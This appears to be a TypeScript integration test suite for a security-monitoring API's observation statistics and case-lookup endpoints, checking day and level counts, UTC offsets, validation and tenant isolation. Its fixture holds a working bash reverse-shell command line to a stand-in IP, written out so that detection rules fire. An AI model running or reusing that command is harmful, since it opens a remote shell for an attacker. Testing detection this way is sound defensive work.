// GET /v1/observations/stats and GET /v1/observations/cases through HTTP on SQLite and PostgreSQL:
// observations from records posted to the collector (dated over several days) and from an
// approved external writer are counted per day and level exactly as the list shows them, every
// day present; other tenants' observations never count; `days` and the offset are validated; each
// observation of a list finds its case.
import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { databaseTargets } from '../helpers/databases.js';
import type { TestServer } from '../helpers/server.js';
import {
  apiClient,
  bearer,
  detectionCaughtUp,
  ingest,
  issueToken,
  signIn,
  type ApiClient,
  type ApiResponse,
  type Problem,
} from '../helpers/api.js';
import type { CaseDetail, Page } from '../helpers/responses.js';
import { apiSuite } from '../helpers/suite.js';
import type { Tenant } from '../../src/identity/tenants/tenant-service.js';
import type { ObservationView } from '../../src/observations/observation-service.js';
import type { ObservationStats } from '../../src/observations/observation-stats-service.js';

/** GET /v1/observations/cases: each observation's case, by observation id. */
interface ObservationCases {
  cases: Record<string, { id: string; number: number; title: string; status: string; score: number }>;
}

const DAY = 86_400_000;
const LEVELS = ['informational', 'low', 'medium', 'high', 'critical'] as const;
const NOW = Date.now();
const daysAgo = (days: number, hours = 0) => new Date(NOW - days * DAY - hours * 3_600_000).toISOString();

/** A reverse shell in the generic process shape: the bundled rules detect it. */
function reverseShell(host: string, timestamp: string): Record<string, unknown> {
  return {
    type: 'process',
    timestamp,
    host,
    endpoint_id: `ep-${host}`,
    user: 'www-data',
    os: 'linux',
    process: {
      name: 'bash',
      pid: 31337,
      executable: '/bin/bash',
      command_line: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
    },
    parent: { name: 'php-fpm', pid: 900, executable: '/usr/sbin/php-fpm8.2', command_line: 'php-fpm: pool www' },
  };
}

async function allObservations(client: ApiClient): Promise<ObservationView[]> {
  const all: ObservationView[] = [];
  let cursor: string | null = null;
  do {
    const page: ApiResponse<Page<'observations', ObservationView>> = await client.get(
      `/v1/observations?limit=500${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}`,
    );
    assert.equal(page.status, 200, JSON.stringify(page.body));
    all.push(...page.body.observations);
    cursor = page.body.next_cursor;
  } while (cursor);
  return all;
}

/** What the stats must say, computed from the list: per day from `since`, per level. */
function expectedDays(observations: ObservationView[], since: string, days: number): Record<string, number>[] {
  const start = Date.parse(since);
  const result = Array.from(
    { length: days },
    () => Object.fromEntries([...LEVELS, 'total'].map((key) => [key, 0])) as Record<string, number>,
  );
  for (const observation of observations) {
    const index = Math.floor((Date.parse(observation.first_time) - start) / DAY);
    const day = result[index];
    if (!day) continue;
    day[observation.level]! += 1;
    day.total! += 1;
  }
  return result;
}

const countsOf = (stats: ObservationStats) => stats.days.map(({ date: _date, ...counts }) => counts);

for (const target of databaseTargets) {
  describe(`observation stats API on ${target.kind}`, { skip: target.skip }, () => {
    const suite = apiSuite(target);
    let server: TestServer;
    let acme: Tenant;
    let reader: ApiClient;
    let globexReader: ApiClient;

    before(async () => {
      ({ server, acme } = suite);
      const { globex } = suite;
      reader = apiClient(server, bearer((await issueToken(server, acme, ['observations:read', 'cases:read'])).value));
      globexReader = apiClient(
        server,
        bearer((await issueToken(server, globex, ['observations:read', 'cases:read'])).value),
      );

      // Collector traffic dated today, 2 days and 6 days ago (and 30 days ago: outside 14 days).
      await ingest(
        server,
        [
          reverseShell('web-01', daysAgo(0, 1)),
          reverseShell('web-02', daysAgo(2)),
          reverseShell('web-03', daysAgo(6)),
          reverseShell('web-04', daysAgo(30)),
        ],
        'acme',
      );
      await ingest(server, [reverseShell('gx-01', daysAgo(0, 1)), reverseShell('gx-02', daysAgo(3))], 'globex');
      await detectionCaughtUp(server);

      // An approved external writer adds observations of chosen levels on chosen days.
      const operator = await signIn(server, {
        tenant: null,
        role: 'operator',
        email: `operator-${target.kind}@platform.example`,
      });
      const approved = await operator.client.patch(
        '/v1/tenants/acme',
        { observation_write_approved: true },
        { 'x-csrf-token': operator.csrf },
      );
      assert.equal(approved.status, 200, JSON.stringify(approved.body));
      const writer = apiClient(server, bearer((await issueToken(server, acme, ['observations:write'])).value));
      const writes: [string, (typeof LEVELS)[number], string][] = [
        ['x-1', 'low', daysAgo(3)],
        ['x-2', 'low', daysAgo(3)],
        ['x-3', 'critical', daysAgo(3)],
        ['x-4', 'medium', daysAgo(10)],
        ['x-5', 'informational', daysAgo(0, 2)],
        ['x-6', 'high', daysAgo(20)],
      ];
      for (const [id, level, time] of writes) {
        const written = await writer.post('/v1/observations', {
          external_id: id,
          title: `EDR alert ${id}`,
          level,
          techniques: ['T1003.001'],
          host: 'ws-042',
          first_time: time,
        });
        assert.equal(written.status, 201, JSON.stringify(written.body));
      }
    });

    test('counts per UTC day and level match the observations listed, every day present, oldest first', async () => {
      const response = await reader.get('/v1/observations/stats?days=14');
      assert.equal(response.status, 200, JSON.stringify(response.body));
      const stats = response.body as ObservationStats;
      assert.equal(stats.days.length, 14);
      assert.equal(stats.utc_offset_minutes, 0);
      const today = new Date().toISOString().slice(0, 10);
      assert.equal(stats.days.at(-1)!.date, today, 'the last day is today (UTC)');
      assert.match(stats.since, /T00:00:00\.000Z$/, 'UTC days start at midnight UTC');
      assert.equal(Date.parse(stats.until) - Date.parse(stats.since), 14 * DAY);
      for (const [i, day] of stats.days.entries()) {
        assert.equal(
          day.date,
          new Date(Date.parse(stats.since) + i * DAY).toISOString().slice(0, 10),
          'consecutive days, oldest first',
        );
        assert.equal(
          day.total,
          LEVELS.reduce((sum, level) => sum + day[level], 0),
          `${day.date}: total is the sum of the levels`,
        );
      }

      const observations = await allObservations(reader);
      assert.ok(
        observations.filter((observation) => observation.source === 'detection').length >= 4,
        'the collector traffic was detected',
      );
      assert.deepEqual(countsOf(stats), expectedDays(observations, stats.since, 14));

      // The external writes, on the days they were dated.
      const threeDaysAgo = stats.days.find((day) => day.date === daysAgo(3).slice(0, 10))!;
      assert.ok(threeDaysAgo.low >= 2 && threeDaysAgo.critical >= 1, JSON.stringify(threeDaysAgo));
      assert.ok(stats.days.find((day) => day.date === daysAgo(10).slice(0, 10))!.medium >= 1);
      assert.ok(
        stats.days.some((day) => day.total === 0),
        'days without observations are present with zeros',
      );
      const inRange = stats.days.reduce((sum, day) => sum + day.total, 0);
      assert.ok(inRange < observations.length, 'observations older than the range are not counted');

      const recent = observations.filter((observation) => Date.parse(observation.first_time) >= NOW - DAY);
      assert.equal(stats.last_24_hours.total, recent.length);
      assert.ok(stats.last_24_hours.informational >= 1, 'the informational write of 2 hours ago is recent');
      for (const level of LEVELS)
        assert.equal(
          stats.last_24_hours[level],
          recent.filter((observation) => observation.level === level).length,
          level,
        );
    });

    test('14 days is the default; 1 and 90 work; a UTC offset moves the day boundaries', async () => {
      const byDefault = (await reader.get('/v1/observations/stats')).body as ObservationStats;
      assert.equal(byDefault.days.length, 14);
      const one = (await reader.get('/v1/observations/stats?days=1')).body as ObservationStats;
      assert.equal(one.days.length, 1);
      assert.deepEqual(one.days[0], byDefault.days.at(-1));
      const ninety = (await reader.get('/v1/observations/stats?days=90')).body as ObservationStats;
      assert.equal(ninety.days.length, 90);
      const observations = await allObservations(reader);
      assert.deepEqual(countsOf(ninety), expectedDays(observations, ninety.since, 90));
      assert.equal(
        ninety.days.reduce((sum, day) => sum + day.total, 0),
        observations.length,
        'everything is within 90 days',
      );

      const east = (await reader.get('/v1/observations/stats?days=14&utc_offset_minutes=330')).body as ObservationStats;
      assert.equal(east.utc_offset_minutes, 330);
      assert.match(east.since, /T18:30:00\.000Z$/, 'a UTC+5:30 day starts at 18:30 UTC the day before');
      assert.deepEqual(countsOf(east), expectedDays(observations, east.since, 14));
      const west = (await reader.get('/v1/observations/stats?utc_offset_minutes=-480')).body as ObservationStats;
      assert.match(west.since, /T08:00:00\.000Z$/);
      assert.deepEqual(countsOf(west), expectedDays(observations, west.since, 14));
    });

    test('bad parameters are refused with a problem naming them', async () => {
      for (const query of [
        'days=0',
        'days=91',
        'days=-1',
        'days=abc',
        'days=1.5',
        'utc_offset_minutes=900',
        'utc_offset_minutes=-841',
        'colour=red',
      ]) {
        const response = await reader.get<Problem>(`/v1/observations/stats?${query}`);
        assert.equal(response.status, 400, query);
        assert.match(response.headers.get('content-type') ?? '', /problem\+json/);
        assert.equal(response.body.code, 'invalid_request', query);
      }
      const noPermission = apiClient(server, bearer((await issueToken(server, acme, ['cases:read'])).value));
      const denied = await noPermission.get<Problem>('/v1/observations/stats');
      assert.equal(denied.status, 403);
      assert.equal(denied.body.required_permission, 'observations:read');
      assert.equal((await apiClient(server).get('/v1/observations/stats')).status, 401);
    });

    test('each tenant counts only its own observations', async () => {
      const mine = (await globexReader.get('/v1/observations/stats')).body as ObservationStats;
      const observations = await allObservations(globexReader);
      const hosts = new Set(observations.map((observation) => observation.host));
      assert.deepEqual([...hosts].sort(), ['gx-01', 'gx-02'], 'globex sees its own reverse shells only');
      assert.equal(
        mine.days.reduce((sum, day) => sum + day.total, 0),
        observations.length,
      );
      assert.deepEqual(countsOf(mine), expectedDays(observations, mine.since, 14));
      assert.equal(mine.last_24_hours.total, observations.filter((observation) => observation.host === 'gx-01').length);
    });

    test('GET /v1/observations/cases names the case of each observation, within the tenant only', async () => {
      const observations = await allObservations(reader);
      const ids = observations.map((observation) => observation.id);
      const response = await reader.get<ObservationCases>(`/v1/observations/cases?ids=${ids.join(',')}`);
      assert.equal(response.status, 200, JSON.stringify(response.body));
      const cases = response.body.cases;
      assert.deepEqual(Object.keys(cases).sort(), [...ids].sort(), 'every observation is in a case');
      for (const id of ids) {
        const kase = cases[id]!;
        assert.match(kase.id, /^case_/);
        const detail = await reader.get<CaseDetail>(`/v1/cases/${kase.id}`);
        assert.equal(detail.status, 200);
        assert.ok(
          detail.body.observations.some((observation) => observation.id === id),
          `case ${kase.number} holds ${id}`,
        );
        assert.equal(detail.body.number, kase.number);
        assert.equal(detail.body.status, kase.status);
      }

      const theirs = (await allObservations(globexReader)).map((observation) => observation.id);
      const mixed = await reader.get<ObservationCases>(
        `/v1/observations/cases?ids=${[ids[0], ...theirs, 'obs_nosuch'].join(',')}`,
      );
      assert.deepEqual(
        Object.keys(mixed.body.cases),
        [ids[0]],
        "another tenant's observations and unknown ids are left out",
      );

      for (const query of [
        '',
        'ids=',
        'ids=a,,b',
        `ids=${Array.from({ length: 101 }, (_, i) => `obs_${i}`).join(',')}`,
        'ids=obs_1%27',
      ]) {
        assert.equal((await reader.get(`/v1/observations/cases?${query}`)).status, 400, query);
      }
      const observationsOnly = apiClient(server, bearer((await issueToken(server, acme, ['observations:read'])).value));
      assert.equal(
        (await observationsOnly.get(`/v1/observations/cases?ids=${ids[0]}`)).status,
        403,
        'case details need cases:read',
      );
    });
  });
}
